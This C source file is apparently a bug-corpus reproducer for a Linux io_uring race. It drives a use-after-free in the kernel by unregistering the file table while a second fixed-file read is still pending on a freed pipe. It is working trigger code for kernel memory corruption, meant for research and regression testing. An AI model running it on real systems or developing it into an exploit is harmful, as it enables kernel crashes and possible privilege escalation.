// SPDX-License-Identifier: GPL-2.0
/*
 * Trigger for the io_uring race fixed by b0380bf6dad4, written for krr's bug corpus from the fix:
 * a ring has two registered files, the read ends of two pipes, whose only references are the
 * table's. A read of the first pipe is pending, so a second thread's IORING_UNREGISTER_FILES
 * sleeps (with the ring's lock dropped) until it completes. During that sleep the first thread
 * submits a read of the second registered file, which the unlocked table still hands out. Data
 * on the first pipe lets the unregister finish and put both files; data on the second then wakes
 * the read that still points at its freed file. The threads interleave at the unregister's wait.
 */
#include <linux/io_uring.h>
#include <pthread.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <unistd.h>

static int ring_fd;
static unsigned *sq_tail, *sq_mask, *sq_array, *cq_head, *cq_tail, *cq_mask;
static struct io_uring_sqe *sqes;
static struct io_uring_cqe *cqes;

static int setup(void)
{
	struct io_uring_params p;
	char *rings;

	memset(&p, 0, sizeof(p));
	ring_fd = syscall(SYS_io_uring_setup, 8, &p);
	if (ring_fd < 0)
		return -1;
	rings = mmap(NULL, p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe) +
			   p.sq_off.array + p.sq_entries * sizeof(unsigned),
		     PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring_fd, IORING_OFF_SQ_RING);
	sqes = mmap(NULL, p.sq_entries * sizeof(*sqes), PROT_READ | PROT_WRITE,
		    MAP_SHARED | MAP_POPULATE, ring_fd, IORING_OFF_SQES);
	if (rings == MAP_FAILED || sqes == MAP_FAILED)
		return -1;
	sq_tail = (unsigned *)(rings + p.sq_off.tail);
	sq_mask = (unsigned *)(rings + p.sq_off.ring_mask);
	sq_array = (unsigned *)(rings + p.sq_off.array);
	cq_head = (unsigned *)(rings + p.cq_off.head);
	cq_tail = (unsigned *)(rings + p.cq_off.tail);
	cq_mask = (unsigned *)(rings + p.cq_off.ring_mask);
	cqes = (struct io_uring_cqe *)(rings + p.cq_off.cqes);
	return 0;
}

/* Submits a one-byte read of registered file INDEX (it waits in the kernel for data). */
static int submit_read(int index, char *buf, uint64_t tag)
{
	unsigned tail = *sq_tail, i = tail & *sq_mask;
	struct io_uring_sqe *sqe = &sqes[i];

	memset(sqe, 0, sizeof(*sqe));
	sqe->opcode = IORING_OP_READ;
	sqe->flags = IOSQE_FIXED_FILE;
	sqe->fd = index;
	sqe->addr = (uintptr_t)buf;
	sqe->len = 1;
	sqe->user_data = tag;
	sq_array[i] = i;
	__atomic_store_n(sq_tail, tail + 1, __ATOMIC_RELEASE);
	return syscall(SYS_io_uring_enter, ring_fd, 1, 0, 0, NULL, 0);
}

/* A completion already posted for TAG: its result, or 1 when there is none. */
static int completion(uint64_t tag)
{
	unsigned head;

	for (head = *cq_head; head != __atomic_load_n(cq_tail, __ATOMIC_ACQUIRE); head++)
		if (cqes[head & *cq_mask].user_data == tag)
			return cqes[head & *cq_mask].res;
	return 1;
}

static void *unregister(void *unused)
{
	(void)unused;
	if (syscall(SYS_io_uring_register, ring_fd, IORING_UNREGISTER_FILES, NULL, 0) < 0)
		perror("IORING_UNREGISTER_FILES");
	return NULL;
}

int main(void)
{
	static char first[1], second[1];
	int a[2], b[2], files[2], res;
	pthread_t thread;

	if (setup() || pipe(a) || pipe(b)) {
		perror("io_uring_setup / pipe");
		return 1;
	}
	files[0] = a[0];
	files[1] = b[0];
	if (syscall(SYS_io_uring_register, ring_fd, IORING_REGISTER_FILES, files, 2) < 0) {
		perror("IORING_REGISTER_FILES");
		return 1;
	}
	/* The table's references are the read ends' only ones now. */
	close(a[0]);
	close(b[0]);
	if (submit_read(0, first, 1) != 1)
		perror("read of file 0");
	/* The unregister waits for that read; give it time to go to sleep. */
	pthread_create(&thread, NULL, unregister, NULL);
	usleep(50000);
	if (submit_read(1, second, 2) != 1)
		perror("read of file 1");
	res = completion(2);
	if (res <= 0) {
		printf("the second read failed at once (%d): the kernel is not vulnerable\n", res);
		return 0;
	}
	/* Let the first read finish: the unregister puts both files. */
	if (write(a[1], "x", 1) != 1)
		perror("write a");
	pthread_join(thread, NULL);
	usleep(100000);	/* an RCU grace period: the file is freed */
	if (write(b[1], "y", 1) != 1)	/* wakes the read that holds the freed file */
		perror("write b");
	usleep(100000);
	printf("no report: the kernel is not vulnerable (or the threads did not interleave)\n");
	return 0;
}
